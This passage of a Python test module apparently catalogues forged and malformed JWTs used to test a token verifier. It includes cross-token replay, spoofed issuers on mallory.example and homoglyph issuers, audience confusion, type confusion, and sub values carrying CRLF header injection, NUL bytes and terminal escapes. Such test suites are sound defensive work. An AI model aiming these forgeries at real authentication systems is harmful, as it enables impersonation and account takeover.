    ]  # fmt: skip
    return rows


def _unencoded(f: Forger) -> str:
    head = b64(as_json({"alg": "EdDSA", "kid": f.ed.kid, "b64": False, "crit": ["b64"]}))
    body = json.dumps(f.victim).replace(".", "-")
    return f"{head}.{body}.{b64(f.ed.sign(f'{head}.{body}'.encode()))}"


def _other_kinds() -> list[Attack]:
    def at_jwt(f: Forger) -> str:
        claims = {"iss": f.issuer.url + "/api/auth", "sub": "victim", "aud": "https://other.example",
                  "exp": f.now + 600,
                  "iat": f.now, "jti": "1", "client_id": "c", "scope": "openid"}  # fmt: skip
        return f.signed(claims, {"alg": "EdDSA", "kid": f.ed.kid, "typ": "at+jwt"})

    def id_token(f: Forger) -> str:
        claims = {"iss": f.issuer.url, "sub": "victim", "aud": "client-id", "exp": f.now + 600, "iat": f.now,
                  "nonce": "n", "at_hash": "x", "auth_time": f.now}  # fmt: skip
        return f.signed(claims)

    def session_cookie(f: Forger) -> str:
        session = {"session": {"id": "s", "userId": "victim"}, "user": {"id": "victim"}, "updatedAt": 1,
                   "iat": f.now, "exp": f.now + 300}  # fmt: skip
        return f.signed(session)

    def dpop(f: Forger) -> str:
        claims = {"jti": "x", "htm": "GET", "htu": "http://taskward.test/api/me/tasks", "iat": f.now}
        head = {"alg": "EdDSA", "typ": "dpop+jwt", "jwk": f.mallory.jwk()}
        return compact(head, claims, f.mallory.sign)

    def logout(f: Forger) -> str:
        claims = {"iss": f.issuer.url, "sub": "victim", "aud": f.issuer.audience, "iat": f.now,
                  "exp": f.now + 60, "jti": "1",
                  "events": {"http://schemas.openid.net/event/backchannel-logout": {}}}  # fmt: skip
        return f.signed(claims, {"alg": "EdDSA", "kid": f.ed.kid, "typ": "logout+jwt"})

    def security_event(f: Forger) -> str:
        event = {"https://schemas.openid.net/secevent/caep/event-type/session-revoked": {}}
        claims = {**f.victim, "jti": "1", "events": event}
        return f.signed(claims, {"alg": "EdDSA", "kid": f.ed.kid, "typ": "secevent+jwt"})

    def feed(f: Forger) -> str:
        claims = {**f.victim, "next": "1", "complete": True, "events": []}
        return f.signed(claims, {"alg": "EdDSA", "kid": f.ed.kid, "typ": "revocations+jwt"})

    rows = [
        Attack("a security event token", "RFC 8417 §2.3", security_event, genuine=True),
        Attack("an answer of the feed of revocations", "RFC 8725 §3.11", feed, genuine=True),
        Attack("an access token for another audience (at+jwt)", "RFC 9068 §4, RFC 8725 §3.8", at_jwt, genuine=True),
        Attack("an access token whose issuer is /api/auth", "RFC 8725 §3.8",
               lambda f: f.says(iss=f.issuer.url + "/api/auth"), genuine=True),
        Attack("an ID token", "RFC 8725 §2.8, OpenID Connect Core §2", id_token, genuine=True),
        Attack("an ID token whose aud lists us nowhere", "RFC 8725 §3.9",
               lambda f: f.says(aud=["client-id", "other"], azp="client-id"), genuine=True),
        Attack("a session-cache cookie", "RFC 8725 §2.8", session_cookie, genuine=True),
        Attack("a DPoP proof", "RFC 9449 §4.2", dpop),
        Attack("a logout token", "OpenID Connect Back-Channel Logout §2.4", logout, genuine=True),
        Attack("a sender-constrained token (DPoP)", "RFC 9449 §7.2", lambda f: f.says(cnf={"jkt": "x"}), genuine=True),
        Attack("a certificate-bound token", "RFC 8705 §3.1", lambda f: f.says(cnf={"x5t#S256": "x"}), genuine=True),
        Attack("a token with an empty cnf", "RFC 7800 §3.1", lambda f: f.says(cnf={}), genuine=True),
        Attack("a token with cnf null", "RFC 7800 §3.1", lambda f: f.says(cnf=None), genuine=True),
    ]  # fmt: skip
    kinds = ("secevent+jwt", "id+jwt", "token-introspection+jwt", "rt+jwt", "oauth-authz-req+jwt",
             "entity-statement+jwt", "JOSE", "JOSE+JSON", "vc+sd-jwt", "kb+jwt", "client-authentication+jwt", "",
             "application/", "jwt/x")  # fmt: skip
    rows += [
        Attack(f"typ {kind!r}", "RFC 8725 §3.11", lambda f, k=kind: f.heads(typ=k), genuine=True) for kind in kinds
    ]
    rows += [
        Attack(f"typ is {name}", "RFC 7519 §5.1", lambda f, k=kind: f.heads(typ=k), genuine=True)
        for name, kind in {"null": None, "a number": 1, "a list": ["JWT"], "an object": {}, "true": True}.items()
    ]
    return rows


_VALUES: dict[str, Any] = {
    "missing": ABSENT, "null": None, "true": True, "false": False, "0": 0, "-1": -1, "1.5": 1.5, "empty": "",
    "a list": ["x"], "an empty list": [], "an object": {"x": 1}, "an empty object": {},
}  # fmt: skip


def _claims() -> list[Attack]:
    rows = []
    for claim, reference in (("sub", "RFC 7519 §4.1.2"), ("iss", "RFC 7519 §4.1.1"), ("aud", "RFC 7519 §4.1.3")):
        rows += [
            Attack(f"{claim} is {name}", reference, lambda f, c=claim, v=value: f.says(**{c: v}), genuine=True)
            for name, value in _VALUES.items()
        ]
    dates: dict[str, Any] = {
        "null": None, "true": True, "false": False, "empty": "", "a word": "never", "a list": [9999999999],
        "an object": {}, "10**400": 10**400, "1e300": 1e300, "-1e300": -1e300,
    }  # fmt: skip
    for claim, reference in (("exp", "RFC 7519 §4.1.4"), ("iat", "RFC 7519 §4.1.6"), ("nbf", "RFC 7519 §4.1.5")):
        rows += [
            Attack(f"{claim} is {name}", reference, lambda f, c=claim, v=value: f.says(**{c: v}), genuine=True)
            for name, value in dates.items()
        ]
        rows.append(Attack(f"{claim} is a number in a string", f"{reference}, RFC 7519 §2",
                           lambda f, c=claim: f.says(**{c: str(f.now + 60)}), genuine=True))  # fmt: skip
        rows.append(Attack(f"{claim} is 1e999", f"{reference}, RFC 8259 §6", lambda f, c=claim: f.raw(
            claims=(json.dumps({k: v for k, v in f.victim.items() if k != c})[:-1] + f', "{c}": 1e999}}').encode()),
            genuine=True))  # fmt: skip
    rows += [
        Attack("exp is missing", "RFC 7519 §4.1.4", lambda f: f.says(exp=ABSENT), genuine=True),
        Attack("iat is missing", "RFC 7519 §4.1.6", lambda f: f.says(iat=ABSENT), genuine=True),
        Attack("expired long ago", "RFC 7519 §4.1.4", lambda f: f.says(
            iat=f.now - 9000, exp=f.now - 8000), genuine=True),
        Attack("expired just past the leeway", "RFC 7519 §4.1.4", lambda f: f.says(exp=f.now - 30), genuine=True),
        Attack("exp in milliseconds", "RFC 7519 §2", lambda f: f.says(exp=(f.now + 60) * 1000), genuine=True),
        Attack("iat in milliseconds", "RFC 7519 §2", lambda f: f.says(iat=f.now * 1000), genuine=True),
        Attack("from the future", "RFC 7519 §4.1.6", lambda f: f.says(iat=f.now + 60, exp=f.now + 600), genuine=True),
        Attack("not yet", "RFC 7519 §4.1.5", lambda f: f.says(nbf=f.now + 60), genuine=True),
        Attack("valid for ever", "RFC 8725 §3.10", lambda f: f.says(exp=f.now + 10**9), genuine=True),
        Attack("iat long ago so as to last", "RFC 8725 §3.10", lambda f: f.says(iat=0), genuine=True),
        Attack("sub of 256 characters", "RFC 7519 §4.1.2", lambda f: f.says(sub="x" * 256), genuine=True),
        Attack("sub with a NUL", "CWE-158", lambda f: f.says(sub="victim\0"), genuine=True),
        Attack("sub with a line break", "CWE-93", lambda f: f.says(sub="victim\r\nX: 1"), genuine=True),
        Attack("sub with half a surrogate", "RFC 8259 §8.2", lambda f: f.claims_text(
            json.dumps({**f.victim, "sub": "victim\ud800"})), genuine=True),
        Attack("sub with an escape sequence", "CWE-117", lambda f: f.says(sub="\x1b[2Jvictim"), genuine=True),
        Attack("sub as a number", "RFC 7519 §4.1.2", lambda f: f.says(sub=42), genuine=True),
    ]  # fmt: skip
    issuers: dict[str, Callable[[str], Any]] = {
        "a prefix of ours": lambda u: u[:-1], "ours and more": lambda u: u + ".mallory.example",
        "ours and a slash": lambda u: u + "/", "ours and a path": lambda u: u + "/api/auth",
        "ours as a user name": lambda u: u + "@mallory.example",
        "ours as a suffix": lambda u: "https://mallory.example/" + u,
        "ours in capitals": lambda u: u.upper(), "ours in an array": lambda u: [u],
        "ours in an object": lambda u: {u: u}, "ours with another scheme": lambda u: u.replace("http", "https"),
        "ours with a NUL": lambda u: u + "\0", "ours with a space": lambda u: " " + u,
        "ours with a homoglyph": lambda u: u.replace("o", "о"),
        "ours as 127.0.0.1": lambda u: u.replace("localhost", "127.0.0.1"),
        "ours and another": lambda u: [u, "https://mallory.example"],
    }  # fmt: skip
    rows += [
        Attack(f"iss is {name}", "RFC 7519 §4.1.1, CVE-2024-53861", lambda f, m=make: f.says(
            iss=m(f.issuer.url)), genuine=True)
        for name, make in issuers.items()
    ]  # fmt: skip
    audiences: dict[str, Callable[[str], Any]] = {
        "somebody else": lambda a: "https://other.example", "a prefix of ours": lambda a: a[:-1],
        "ours and more": lambda a: a + "/api", "ours in capitals": lambda a: a.upper(),
        "ours with a slash": lambda a: a + "/", "ours joined with a space": lambda a: f"{a} https://other.example",
        "ours joined with a comma": lambda a: f"{a},https://other.example", "ours beside a number": lambda a: [a, 1],
        "ours beside null": lambda a: [a, None], "ours one level deeper": lambda a: [[a]],
        "ours as an object's name": lambda a: {a: True}, "others": lambda a: ["x", "y"], "a wildcard": lambda a: "*",
        "ours with a NUL": lambda a: a + "\0", "ours beside an object": lambda a: [a, {}],
    }  # fmt: skip
    rows += [
        Attack(f"aud is {name}", "RFC 7519 §4.1.3, RFC 8725 §3.9", lambda f, m=make: f.says(aud=m(f.issuer.audience)),
               genuine=True)
        for name, make in audiences.items()
    ]  # fmt: skip
    return rows


ATTACKS: list[Attack] = [
    *_none(), *_hmac(), *_families(), *_brought_along(), *_kids(), *_signatures(), *_shapes(), *_json(), *_headers(),
    *_other_kinds(), *_claims(),
]  # fmt: skip


def ecdsa_mirrored(signature: bytes) -> bytes:
    """(r, n - s): the other signature everybody can make of an ECDSA signature; valid by FIPS 186-5, so no attack."""
    s = P256_ORDER - int.from_bytes(signature[32:], "big")
    return signature[:32] + unb64(b64_int(s, 32))
